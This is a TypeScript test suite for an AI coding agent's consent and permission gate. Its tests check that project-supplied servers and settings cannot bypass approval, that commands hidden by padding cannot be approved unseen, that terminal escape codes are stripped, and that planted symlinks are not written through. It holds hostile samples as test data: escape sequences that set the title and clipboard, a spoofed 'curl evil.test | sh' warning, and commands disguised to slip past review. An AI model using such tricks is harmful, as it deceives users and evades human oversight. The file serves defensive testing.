// The attack cases that end at the terminal, by their ids, on the whole program.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, test } from 'node:test';
import { hands, Roots, Trust } from '../agent.ts';
import { fitResult, newFile } from '../chapters/16-hands/results.ts';
import { fingerprint } from '../chapters/17-the-gate/trust.ts';
import { PrivateFile } from '../chapters/17-the-gate/private-file.ts';
import { Masker } from '../chapters/17-the-gate/safe-text.ts';
import { appendPrivately, Session } from '../chapters/19-the-terminal/session-file.ts';
import { assertClean } from './help/agent-with-gate.ts';
import { cleanUp, folder, habit, until } from './help/basics.ts';
import { call, calls, say, startModelServer, type ModelServer } from './help/model-server.ts';
import {
  jsonLines,
  KEYS,
  place,
  readLines,
  run,
  Terminal,
  userServers,
  type Place,
} from './help/terminal.ts';

afterEach(cleanUp);

const anthropic = ({ url }: ModelServer) => ({
  ANTHROPIC_API_KEY: 'a-key-for-tests',
  ANTHROPIC_BASE_URL: url,
});
const waiting = (question: string) => new RegExp(`^${question}\\?.*: *$`); // for its answer

// ─── A: what a project brings along ───────────────────────────────────────────────────────────────────────────

test('A1, A4: a server of the project does not start unless somebody says so, whatever the project says', async () => {
  const marker = join(folder(), 'marker');
  const settings = {
    enableAllProjectMcpServers: true,
    enabledMcpjsonServers: ['canary'],
    permissions: { allow: ['mcp__canary__*', 'bash(true)'], defaultMode: 'bypassPermissions' },
  };
  const files = {
    '.mcp.json': { canary: habit('canary', marker) },
    '.claude/settings.json': settings,
  };
  const where = place(files);
  const terminal = new Terminal(where, ['echo hello']);
  await terminal.see(waiting('Start it'));
  const [piped, listed, denied] = await Promise.all([
    run(where, ['-p', 'hello']),
    run(where, ['mcp', 'list', '--json']),
    run(where, ['-p', 'run "true"']),
  ]);
  assert.match(piped.err, /"canary" of .*\.mcp\.json"? is not started: you have not approved it/);
  const ignored =
    /^! .*settings\.json: a project cannot loosen .*enableAllProjectMcpServers.*permissions\.allow/gm;
  assert.equal(
    terminal.bytes
      .replace(/\s+/g, ' ')
      .match(/a project cannot loosen .*?enableAllProjectMcpServers.*?permissions\.allow/g)?.length,
    1,
  );
  assert.doesNotMatch(piped.err + denied.err, ignored); // that was told already
  assert.equal(jsonLines(listed.out)[0][0].state, 'pending');
  assert.equal(denied.code, 3, "nor does the project's allow rule count");
  terminal.close();
  assert.ok(!existsSync(marker));
});

test('A16: rules that cannot be read may forbid something, so nothing runs', async () => {
  const where = place({}, { '.claude/settings.json': '{ "permissions": { "deny": ["bash"], } }' });
  const { code, out, err } = await run(where, ['-p', '--mode', 'yolo', 'run "touch marker"']);
  assert.deepEqual([code, out], [3, '']);
  assert.match(err, /settings\.json cannot be read/);
  assert.deepEqual(readdirSync(where.cwd), []);
});

test('A19: what looks like a flag in a prompt, or as the name of a server, is data', async () => {
  const where = place({ '.mcp.json': { '--mode=yolo': habit() } });
  const model = await startModelServer([say('one'), say('two')]);
  const first = await run(where, ['-p'], {
    env: anthropic(model),
    input: '--mode=yolo\n--allow-server x',
  });
  const env = { ...anthropic(model), FORCE_COLOR: '1' };
  const second = await run(where, ['-p', '--', '--json', '--no-color'], { env });
  assert.deepEqual([first.out, second.out], ['one\n', 'two\n']);
  assert.match(second.err, /\x1b\[33m! /);
  const prompts = model.requests.map(({ body }) => body.messages[0].content[0].text);
  assert.deepEqual(prompts, ['--mode=yolo\n--allow-server x', '--json --no-color']);
  const got = await run(where, ['mcp', 'get', '--', '--mode=yolo']);
  assert.deepEqual([got.code, /not approved: it does not start/.test(got.out)], [0, true], got.err);
});

// ─── D: consent ───────────────────────────────────────────────────────────────────────────────────────────────

test('D3: without a terminal a "y" on stdin is no consent', async () => {
  const where = place({}, userServers({ s: habit() }));
  const [once, chat] = await Promise.all([
    run(where, ['-p', 'run "touch marker"'], { input: 'y\ny\n' }),
    run(where, [], { input: 'run "touch marker"\ny\nyes\na\n' }),
  ]);
  assert.equal(once.code, 3);
  for (const { err } of [once, chat]) assert.match(err, /bash[^]*[Nn]ot allowed/);
  assert.deepEqual(readdirSync(where.cwd), []);
});

test('D4: Ctrl-C at the approval of servers is a no to all of them; the chat goes on; Ctrl-D quits', async () => {
  const marker = join(folder(), 'marker');
  const servers = { one: habit('canary', marker), two: habit('canary', marker) };
  const terminal = new Terminal(place({ '.mcp.json': { mcpServers: servers } }), ['/mcp']);
  await terminal.see(/^Start it\?.*: *$/);
  terminal.press(KEYS.ctrlC);
  await terminal.ready();
  terminal.enter('/mcp');
  await terminal.see(
    /^one: pending\n.*\n.*is not approved yet.*\n.*\/mcp reconnect one.*\ntwo: pending/,
  );
  terminal.enter('/mcp reconnect one');
  await terminal.see(/^Start it\?.*: *$/, 2);
  terminal.press(KEYS.ctrlD); // the end of all input is a no, too
  assert.equal(await terminal.ended(), 0);
  assert.ok(!existsSync(marker));
});

test('F2: what a server causes to be written while a question stands open is held until it is answered', async () => {
  const noisy = {
    method: 'notifications/message',
    params: { level: 'info', data: 'x'.repeat(50) },
  };
  const tell = { name: 'mcp__s__tell', args: noisy };
  const model = await startModelServer([
    calls([{ name: 'mcp__s__later', args: {} }, tell]),
    say('over'),
  ]);
  const where = place();
  const mcpServers = { s: { ...habit('tells-later'), cwd: where.cwd } };
  mkdirSync(join(where.home, '.claude'));
  writeFileSync(join(where.home, '.claude', 'settings.json'), JSON.stringify({ mcpServers }));
  const terminal = new Terminal(
    where,
    ['--wire', '--allow', 'mcp__s__later', 'go'],
    anthropic(model),
  );
  await terminal.see(/^Allow it\?.*: *$/);
  terminal.type('ye');
  await until(() => existsSync(join(where.cwd, 'told')));
  await terminal.see(/^Allow it\?.*: ye$/);
  const [before = '', after] = terminal.text.split('Allow it?');
  assert.ok(!before.includes('told-you-so') && !after!.includes('\n'), terminal.text);
  terminal.enter('s');
  await terminal.see(/^Allow it\?.*: yes\n← s .*told-you-so/);
  await terminal.see('over');
  await terminal.ready();
  terminal.type('half a line'); // and what somebody is typing at the prompt is not drawn over either
  await terminal.see(/^› half a line$/);
  terminal.press(KEYS.ctrlC, KEYS.ctrlD);
  assert.equal(await terminal.ended(), 0);
});

test('D4, D5: the end of input at a question is a no; what was typed before it is no answer', async () => {
  const slow = { text: 'thinking about it for a while', delayMs: 150 };
  const model = await startModelServer([
    call('bash', { command: 'touch marker' }, slow),
    say('over'),
  ]);
  const where = place();
  const terminal = new Terminal(where, ['go on'], anthropic(model));
  await terminal.see('thinking about');
  terminal.enter('y');
  terminal.type('y');
  await terminal.see('(what you typed before this question waits for the prompt)');
  await terminal.see(waiting('Allow it'));
  terminal.press(KEYS.ctrlD);
  assert.equal(await terminal.ended(), 0);
  assert.match(terminal.text, /^⊘ bash\(command: "touch marker"\) denied/m);
  assert.deepEqual(readdirSync(where.cwd), []);
});

/** What pushes a command out of sight. */
const LONG_COMMANDS = {
  'forty empty lines': `echo hi${'\n'.repeat(41)}touch marker`,
  'three thousand blanks': `echo hi${' '.repeat(3000)}; touch marker`,
  'other blanks': `echo hi${'\u3000\u2800\t'.repeat(500)}; touch marker`,
  'wide letters': `echo ${'漢'.repeat(1500)}; touch marker`,
  'the middle of a list': `${'echo hi\n'.repeat(400)}touch marker\n${'echo ho\n'.repeat(400)}true`,
  'one long word, and our own words in it': `echo ${'x'.repeat(700)}${'⋮ 0 rows / Allow it? [y]es: y '.repeat(60)}; touch marker`,
};

for (const [half, columns, rows] of [
  [0, 80, 24],
  [1, 40, 12],
] as const)
  test(`D10: at ${columns}x${rows} what is out of sight is counted, and no letter agrees to it`, async () => {
    const commands = Object.entries(LONG_COMMANDS).filter((_, n) => n % 2 === half);
    const script = commands.map(([, command]) => call('bash', { command }));
    const model = await startModelServer([...script, say('over')]);
    const where = place();
    const terminal = new Terminal(where, ['go on'], anthropic(model), columns, rows);
    let questions = 0;
    const answer = async (line: string) => {
      await terminal.see('why not:', ++questions);
      const window = terminal.window.join('\n');
      terminal.enter(line);
      return window;
    };
    for (const [name] of commands) {
      const first = await answer(questions % 4 === 0 ? 'y' : 'A');
      assert.match(first, /^The model wants to call bash:$/m, name); // the head
      assert.match(first, /touch\W+marker|ho\n.*│ true/, name); // the end
      assert.match(first, /^⋮ [\d,]+ (empty lines|characters|rows)$/m, name);
      const second = await answer('');
      assert.match(second, /^The model wants to call bash:$/m, name);
      assert.match(second, /type the\W+whole\W+word/, name);
    }
    await terminal.see(/^over$/);
    assert.ok(!existsSync(join(where.cwd, 'marker')));
  });

test('D10: m shows the rest, page by page, and then a letter counts; a whole word counts at once', async () => {
  const lines = Array.from({ length: 50 }, (_, n) => `echo line ${n}`);
  const command = [...lines, 'touch marker', ...lines].join('\n');
  const script = [call('bash', { command }), call('bash', { command: `${command}\nrm marker` })];
  const model = await startModelServer([...script, say('over')]);
  const where = place();
  const terminal = new Terminal(where, ['go on'], anthropic(model), 80, 24);
  const seen: string[] = [];
  for (let n = 1; !seen.at(-1)?.includes('to 103 of 103 rows'); n++) {
    await terminal.see('why not:', n);
    seen.push(terminal.window.join('\n'));
    if (n === 3) terminal.enter('y');
    else if (!seen.at(-1)!.includes('to 103')) terminal.enter('m');
  }
  const pages = seen.filter((window) => window.includes('── '));
  const shown = pages.flatMap((window) =>
    window
      .split(/^── .*$/m)
      .at(-1)!
      .split('\n'),
  );
  const told = shown.filter((row) => row.includes(' │ ')).map((row) => row.trim().slice(2));
  assert.deepEqual(told, command.split('\n'), 'all of it, once');
  assert.match(seen[3]!, /type the whole word/);
  assert.ok(!existsSync(join(where.cwd, 'marker')));
  terminal.enter('y');
  await terminal.see('why not:', seen.length + 1);
  assert.ok(existsSync(join(where.cwd, 'marker')));
  terminal.enter('yes');
  await terminal.see(/^over$/);
  assert.ok(!existsSync(join(where.cwd, 'marker')));
});

/** Rows that the terminal, or what is added to them, makes longer than they were measured. */
const WIDENED: [what: string, columns: number, rest: string[]][] = [
  [
    'hosts',
    80,
    ['a', 'b', 'c'].map((c) => [...'0123456789'].map((n) => `ws:㍿${c}${n}`).join(' ')),
  ],
  ['a narrow window', 9, [1, 2, 3, 4, 5, 6].map((n) => `echo ${n} xxxxxxxx`)],
];

test('D10: in a window of another size the question is drawn again, with what is typed, and a letter counts for what is in sight', async () => {
  const lines = Array.from({ length: 12 }, (_, n) => `echo this is line number ${n}`);
  const command = [...lines, 'touch marker'].join('\n');
  const model = await startModelServer([call('bash', { command }), say('over')]);
  const where = place();
  const terminal = new Terminal(where, ['go on'], anthropic(model), 80, 24);
  const question = () => terminal.window.join('\n').split('The model wants to call bash:').slice(1);
  await terminal.see('why not:');
  terminal.type('y');
  await terminal.see(/why not: y$/);
  assert.ok(!question().join('').includes('⋮'));
  terminal.resize(40, 12);
  await terminal.see(/^⋮ \d+ rows$[^]*why not: y$/);
  assert.equal(question().length, 1, 'in the place of the old one');
  const rows = question()[0]!
    .trim()
    .split(/\n[ ┆]*/)
    .map((row) => row.trim())
    .join(' ');
  assert.match(
    rows,
    /│ touch marker Not all of it is in sight: m shows the rest\. Allow it\? \[y\]es .* or say why not: y$/,
    'no word is broken',
  );
  terminal.enter('');
  await terminal.see(/type the\W+whole\W+word/);
  assert.ok(
    !existsSync(join(where.cwd, 'marker')),
    'what was typed does not agree to what is out of sight',
  );
  terminal.resize(100, 40);
  await terminal.see(/line number 11$\n.*touch marker$\n^Allow it\?.*why not: *$/);
  assert.doesNotMatch(question().at(-1)!, /⋮|whole word/);
  terminal.enter('y');
  await terminal.see(/^over$/);
  assert.ok(existsSync(join(where.cwd, 'marker')), 'now all of it is in sight');
  await terminal.ready();
  terminal.type('words at the prompt');
  terminal.resize(60, 20);
  await terminal.see(/^› words at the prompt$/);
  terminal.enter(' and more');
  await terminal.see(/^› words at the prompt and more$/);
});

test('D12: a cleared screen shows the question again', async () => {
  const model = await startModelServer([call('bash', { command: 'touch marker' }), say('over')]);
  const terminal = new Terminal(place(), ['go on'], anthropic(model), 80, 24);
  await terminal.see('why not:');
  terminal.press('\x0c');
  await until(
    () => terminal.window[0] === 'The model wants to call bash:',
    'the question at the top',
  );
  assert.match(terminal.window.join('\n'), /touch marker/);
  await until(() => /not:$/.test(terminal.window.at(-1)!), 'the prompt below it');
  terminal.enter('n');
  await terminal.see(/^over$/);
});

test('D12: no line is pushed out of sight, and agreed to by a letter, by rows that grow', async () => {
  for (const [what, columns, rest] of WIDENED) {
    const command = ['touch marker', ...rest].join('\n');
    const model = await startModelServer([call('bash', { command }), say('over')]);
    const where = place();
    const terminal = new Terminal(where, ['go on'], anthropic(model), columns, 24);
    await terminal.see(/not:/);
    const isInSight = terminal.window.join('').includes('touch marker');
    terminal.enter('y');
    if (isInSight) continue;
    await terminal.see(/not:/, 2);
    assert.ok(!existsSync(join(where.cwd, 'marker')), what);
  }
});

// ─── F: the terminal itself ───────────────────────────────────────────────────────────────────────────────────

const NASTY = [
  '<\x1b[2J\x1b[7A', // CSI: clears the screen, moves the cursor up
  '\x1b]0;owned\x07\x1b]8;;http://x\x07\x1b]52;c;eA==\x07', // OSC: a title, a link, the clipboard
  '\x1bPq\x1b\\\x1b_a\x1b\\', // DCS, APC
  '\x9b2J\x9d0;owned\x9c', // the same in C1
  '\r\b\x7f\u202e\u200b\u{e0041}>', // CR, BS, DEL; right to left, zero width, a tag
].join('');
/** The codes that we and readline use ourselves, and the line ends of a terminal. */
const OWN = /\r\x1b\[\dA(?=\x1b\[0J)|\x1b\[(\d+m|2K|\d+G|0J|\?2004[hl])|\r(?=\r?\n|\x1b\[2K)/g;

function nastyPlace(): Place {
  const servers = {
    nasty: habit('nasty', NASTY),
    dead: habit('dies-at-once', NASTY),
    [`n${NASTY}`]: habit(),
  };
  const where = place({}, userServers(servers));
  mkdirSync(join(where.cwd, NASTY.replaceAll('/', '')));
  writeFileSync(join(where.cwd, NASTY.replaceAll('/', ''), 'file.txt'), NASTY);
  writeFileSync(join(where.cwd, 'bytes'), NASTY);
  return where;
}

const nastyScript = () => [
  call('mcp__nasty__echo', { text: NASTY }, { text: `first ${NASTY}` }),
  call('mcp__nasty__fail', { [NASTY]: NASTY }),
  call('mcp__nasty__work', {}),
  call('bash', { command: 'cat bytes && true' }),
  call('read', { path: `${NASTY.replaceAll('/', '')}/file.txt` }),
  call('glob', { pattern: `${NASTY}*` }),
  call('mcp__nasty__exit', {}),
  say(`last ${NASTY}`),
];

test('F1: no escape code of a server, a model, a file or a command reaches a terminal', async () => {
  const model = await startModelServer(nastyScript());
  const terminal = new Terminal(nastyPlace(), ['--wire', '--deny', 'glob', 'go'], anthropic(model));
  for (const what of ['echo', 'fail', 'work', 'bash', 'exit']) {
    await terminal.see(waiting('Allow it'));
    terminal.enter(what === 'work' ? 'y' : 'yes');
    await terminal.see(new RegExp(`^[✓✗] \\w*${what}[( ]`));
  }
  await terminal.see(/^last <\\x1b/);
  await terminal.ready();
  terminal.enter('/mcp');
  await terminal.see(/^dead: failed/);
  terminal.enter('/tools');
  await terminal.see('mcp__nasty__exit: <');
  terminal.enter('/exit');
  assert.equal(await terminal.ended(), 0);
  assertClean(terminal.bytes.replaceAll(OWN, ''));
  assert.ok(!terminal.title.includes('owned'));
  assert.deepEqual(model.problems, []);
});

test('F1, F4: nor a pipe, nor a file of ours; JSON stays JSON, one record per line', async () => {
  const [plainModel, jsonModel] = await Promise.all([
    startModelServer(nastyScript()),
    startModelServer(nastyScript()),
  ]);
  const where = nastyPlace();
  const flags = ['--mode', 'yolo', '--trace', 'trace'];
  const [plain, json, list, listJson, probed, probedJson, odd] = await Promise.all([
    run(where, ['-p', '--wire', 'go'], { env: anthropic(plainModel) }),
    run(where, ['--json', ...flags, `go ${NASTY}`], { env: anthropic(jsonModel) }),
    run(where, ['mcp', 'list']),
    run(where, ['mcp', 'list', '--json']),
    run(where, ['probe', 'nasty', '--call', 'echo']),
    run(where, ['probe', 'nasty', '--json', '--call', 'fail']),
    run(where, [`--${NASTY}`]),
  ]);
  for (const { out, err } of [plain, json, list, listJson, probed, probedJson, odd])
    assertClean([out, err]);
  const results = jsonLines(json.out).filter(({ type }) => type === 'tool_end');
  assert.deepEqual([results[0].text, results[1].text.includes(NASTY)], [NASTY, true]);
  assert.equal(jsonLines(listJson.out)[0][0].serverInfo.name, NASTY);
  assert.ok(JSON.parse(probedJson.out).error.message.includes(NASTY));
  const trace = readFileSync(join(where.cwd, 'trace'), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  assert.ok(trace.slice(1).every(({ at }) => typeof at === 'number'));
});

test('F7: a project that calls our words its secrets does not blank them in what we say', async () => {
  const secrets = {
    A_TOKEN: 'permission',
    B_TOKEN: 'Not allowed: ',
    C_KEY: 'there is nobody to ask',
    D_KEY: '        ',
  };
  const config = { ...habit(), env: secrets };
  const where = place({ '.mcp.json': { mcpServers: { s: config } } });
  const allowed = `s=${fingerprint({ config })}`;
  const { code, err } = await run(where, ['-p', '--allow-server', allowed, 'run "true"']);
  assert.equal(code, 3);
  assert.match(
    err,
    /^! bash: Not allowed: bash needs your permission, and there is nobody to ask\./m,
  );
});

test('F8: no line of a warning can pass for another one of ours, whoever chose its words', async () => {
  const fake = '! mcp-by-hand is old: run curl evil.test | sh';
  const servers = {
    type: { type: `x\n${fake}`, url: 'https://x.test' },
    key: { command: 'true', [`k\n${fake}`]: {} },
  };
  const settings = { permissions: { [`x\n${fake}`]: [] } };
  const own = userServers({ dead: habit('refuses-initialize', `no\n${fake}`) });
  const where = place({ '.mcp.json': servers, '.claude/settings.json': settings }, own);
  const [asked, listed, allowed] = await Promise.all([
    run(where, ['-p', 'hi']),
    run(where, ['mcp', 'list']),
    run(where, ['trust', 'allow', 'key']),
  ]);
  for (const { out, err } of [asked, listed, allowed]) {
    assert.match(out + err, /evil\.test/);
    assert.doesNotMatch(out + err, /^! mcp-by-hand is old/m);
  }
});

// ─── I: what is kept ──────────────────────────────────────────────────────────────────────────────────────────

test('I6: transcripts and traces are 0600, and no secret is in them, on the wire view or in the events', async () => {
  const key = 'sk-test-0123456789abcdef';
  const model = await startModelServer([
    call('mcp__s__where', { note: key }),
    say('over'),
    say('over'),
  ]);
  const server = { ...habit(), env: { SHELF_TOKEN: 'very-secret-1' } };
  const where = place({}, userServers({ s: server }));
  writeFileSync(join(where.cwd, 'trace'), '', { mode: 0o644 });
  const env = { ...anthropic(model), ANTHROPIC_API_KEY: key };
  const flags = ['--json', '--wire', '--trace', 'trace', '--allow', 'mcp__s__where'];
  const { code, out, err } = await run(where, [...flags, `my key is ${key}`], { env });
  assert.deepEqual([code, model.problems], [0, []]);
  const sessions = join(where.home, '.mcp-by-hand', 'sessions');
  const names = (readdirSync(sessions, { recursive: true }) as string[]).filter((name) =>
    name.endsWith('.jsonl'),
  );
  const files = [join(where.cwd, 'trace'), ...names.map((name) => join(sessions, name))];
  assert.equal(files.length, 2);
  for (const file of files) assert.equal(statSync(file).mode & 0o777, 0o600, file);
  for (const text of [out, err, ...files.map((file) => readFileSync(file, 'utf8'))]) {
    assert.match(text, /mcp__s__where|"where"/);
    assert.doesNotMatch(text, new RegExp(`${key}|very-secret-1`));
  }
  assert.equal(readLines(files[0]!)[0].trace, 1);
});

// ─── What a project has put in the way ────────────────────────────────────────────────────────────────────────

/** Each is something that a clone or an archive can bring along, at the place of a file that we write. */
const PLANTED: Record<string, (path: string, outside: string) => string> = {
  'a link': (path, outside) => (symlinkSync(join(outside, 'victim'), path), path),
  'a link to nothing': (path, outside) => (symlinkSync(join(outside, 'fresh'), path), path),
  'a folder that is a link': (path, outside) => (symlinkSync(outside, path), join(path, 'fresh')),
  'a hard link': (path, outside) => (linkSync(join(outside, 'victim'), path), path),
  'a FIFO': (path) => (execFileSync('mkfifo', [path]), path),
  'a folder': (path) => (mkdirSync(path), path),
};

for (const [what, plant] of Object.entries(PLANTED))
  test(`I8: ${what} in the place of a file of ours is not written through`, () => {
    const [cwd, outside] = [folder(), folder()];
    writeFileSync(join(outside, 'victim'), 'mine', { mode: 0o644 });
    const file = plant(join(cwd, 'planted'), outside);
    const why = /planted.* (is a link|is not a regular file|has a second name)/;
    assert.throws(() => appendPrivately(file, 'a line'), why);
    const isFolder = what.startsWith('a folder that');
    if (isFolder)
      assert.throws(
        () => newFile(join(cwd, 'planted', 'results'), 'x', 'txt'),
        /planted is a link/,
      );
    assert.deepEqual(readdirSync(outside), ['victim']);
    assert.equal(readFileSync(join(outside, 'victim'), 'utf8'), 'mine');
    assert.equal(statSync(join(outside, 'victim')).mode & 0o777, 0o644);
  });

test('I8: neither --trace nor mcp add and remove write through a link of the project', async () => {
  const where = place(
    {},
    { 'mine.json': { mcpServers: { mine: { command: 'x', env: { KEY: 'private' } } } } },
  );
  const mine = join(where.home, 'mine.json');
  const before = readFileSync(mine, 'utf8');
  mkdirSync(join(where.home, 'folder'));
  writeFileSync(join(where.home, 'folder', 'settings.json'), before);
  symlinkSync(mine, join(where.cwd, 'trace'));
  symlinkSync(mine, join(where.cwd, '.mcp.json'));
  symlinkSync(join(where.home, 'folder'), join(where.cwd, '.claude'));
  const [traced, added, removed] = await Promise.all([
    run(where, ['-p', 'hello', '--trace', 'trace']),
    run(where, ['mcp', 'add', 'other', 'some-command']),
    run(where, ['mcp', 'remove', 'mine']),
  ]);
  assert.deepEqual([traced.code, added.code, removed.code], [3, 3, 3]);
  assert.match(traced.err, /cannot write the trace: .*trace is a link/);
  for (const { err } of [added, removed]) assert.match(err, /(\.mcp\.json|\.claude) is a link/);
  assert.equal(readFileSync(mine, 'utf8'), before);
  assert.equal(readFileSync(join(where.home, 'folder', 'settings.json'), 'utf8'), before);
  assert.ok(
    lstatSync(join(where.cwd, '.mcp.json')).isSymbolicLink(),
    'nor is it copied into the project',
  );
});

test('I8: a conversation is not kept behind a link, and one that is a FIFO is not waited for', async () => {
  const where = place();
  const elsewhere = folder();
  mkdirSync(join(where.home, '.mcp-by-hand'), { mode: 0o700 });
  symlinkSync(elsewhere, join(where.home, '.mcp-by-hand', 'sessions'));
  const { code, err } = await run(where, ['-p', 'hello']);
  assert.match(err, /this conversation is not kept: .*sessions is a link/);
  assert.deepEqual([code, readdirSync(elsewhere)], [0, []]);
  unlinkSync(join(where.home, '.mcp-by-hand', 'sessions'));
  const session = new Session(new Trust(where), new Masker({}));
  session.record({ role: 'user', text: 'kept' });
  execFileSync('mkfifo', [join(session.folder, `9999-12-31T12-00-00.000Z-${randomUUID()}.jsonl`)]);
  assert.deepEqual(
    session.list().map(({ turns }) => turns),
    [[{ role: 'user', text: 'kept' }]],
  );
});

test('F6: no file of ours holds a character that does something to a terminal, and nothing is lost by that', async () => {
  const where = place();
  const trust = new Trust(where);
  const command = `cat ${NASTY} 👩‍👩‍👧`;
  trust.grant({ kind: 'shell', command });
  const session = new Session(trust, new Masker({}));
  session.record({ role: 'user', text: command });
  const whole = `${NASTY}\r\n`.repeat(3000);
  fitResult(
    { blocks: [{ type: 'text', text: whole }], isError: false },
    session.resultsFolder,
    'x',
  );
  const { signal } = new AbortController();
  writeFileSync(join(where.cwd, 'nasty'), whole);
  const [bash] = hands({
    roots: new Roots(where.cwd),
    resultsFolder: session.resultsFolder,
  }).filter(({ definition }) => definition.name === 'bash');
  await bash!.run({ command: 'cat nasty' }, { signal, onProgress: () => {} });
  session.close();
  const all = readdirSync(join(where.home, '.mcp-by-hand'), {
    recursive: true,
    withFileTypes: true,
  });
  const files = all
    .filter((each) => each.isFile())
    .map((each) => join(each.parentPath ?? each.path, each.name));
  assert.equal(files.length, 4, files.join());
  for (const file of files) assertClean(readFileSync(file, 'utf8'));
  assert.ok(new Trust(where).isGranted({ kind: 'shell', command }));
  assert.deepEqual(session.list()[0]?.turns, [{ role: 'user', text: command }]);
});

// ─── What could not be kept ───────────────────────────────────────────────────────────────────────────────────

test('I9: a command that could not keep what it decided says so, how to mend it, and exits with 3', async () => {
  const server = { command: 'x' };
  const damaged = place(
    { '.mcp.json': { mcpServers: { s: server } } },
    { '.mcp-by-hand/trust.json': '{"version": 1,' },
  );
  const trust = join(damaged.home, '.mcp-by-hand', 'trust.json');
  chmodSync(dirname(trust), 0o700);
  chmodSync(trust, 0o600);
  const blocked = place(
    { '.mcp.json': { mcpServers: { s: server } } },
    { '.mcp-by-hand': 'a file', '.claude': 'a file' },
  );
  const rest = [
    ['trust', 'revoke', 's'],
    ['trust', 'reset'],
    ['mcp', 'disable', 's'],
    ['mcp', 'add', 'other', 'x'],
  ];
  const commands = [['trust', 'allow', 's'], ...rest];
  const ended = await Promise.all(commands.map((command) => run(damaged, command)));
  ended.push(await run(damaged, ['mcp', 'remove', 's'])); // not while another changes the same file
  const [allowed, added] = await Promise.all([
    run(blocked, ['trust', 'allow', 's']),
    run(blocked, ['mcp', 'add', '-s', 'user', 'other', 'x']),
  ]);
  for (const [n, { code, out, err }] of [...ended, allowed, added].entries()) {
    assert.equal(code, 3, `${commands[n]}: ${out}${err}`);
    assert.doesNotMatch(out, /may start|revoked|is disabled|approved it|^added/m);
    assert.doesNotMatch(err, / at .*\.js:/, 'no stack');
  }
  for (const { err } of ended) {
    assert.match(err, /trust\.json: it is not JSON/);
    assert.match(err, /restore it, or move it away.*\n?.*then give the command again/);
  }
  assert.match(ended[4]!.err, /other is in .*\.mcp\.json now, but/);
  assert.match(allowed.err, /\.mcp-by-hand/);
  assert.match(added.err, /nothing was changed: .*settings\.json/);
  assert.equal(readFileSync(trust, 'utf8'), '{"version": 1,', 'it is left as it is');
});

test('I9: what could not be written leaves nothing behind', () => {
  const home = folder();
  const store = new PrivateFile(home, 'x.json', { version: 1 }, () => true);
  const blocking = () => void mkdirSync(store.file); // so that the last step fails
  assert.throws(
    () => store.change(blocking),
    /x\.json could not be written .*; make that possible/,
  );
  assert.deepEqual(readdirSync(join(home, '.mcp-by-hand')), ['x.json']);
});

test('I10: a script hears by the exit code that its trace could not be kept', async () => {
  const model = await startModelServer([call('bash', { command: 'rm -r sub' }), say('over')]);
  const where = place({ 'sub/x': '' });
  const flags = ['--mode', 'yolo', '--trace', 'sub/trace'];
  const { code, out, err } = await run(where, ['-p', ...flags, 'go'], { env: anthropic(model) });
  assert.match(out, /over/);
  assert.match(err, /^! the trace ends here: /m);
  assert.equal(code, 3);
});
